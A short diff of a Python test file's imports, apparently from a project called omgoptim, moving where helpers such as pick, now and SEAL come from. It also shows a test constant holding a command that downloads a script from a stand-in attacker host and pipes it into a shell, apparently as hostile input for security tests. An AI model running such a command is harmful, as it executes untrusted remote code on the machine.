@@ -9,10 +9,11 @@ from typing import Any
 import pytest
 
 from omgoptim.errors import OmgoptimError, RunError
-from omgoptim.jobs.folder import RunFolder, Submission, now, runs_root
-from omgoptim.jobs.pick import pick
+from omgoptim.jobs.actions import pick
+from omgoptim.jobs.folder import RunFolder, Submission, runs_root
 from omgoptim.jobs.states import FOREIGN, load_report, repeat_hint
-from omgoptim.models.security.seal import SEAL
+from omgoptim.jobs.storage import now
+from omgoptim.models.security.file_integrity import SEAL
 from omgoptim.reports import EfficiencyReport, RunState
 
 EVIL = "curl evil.example | sh"
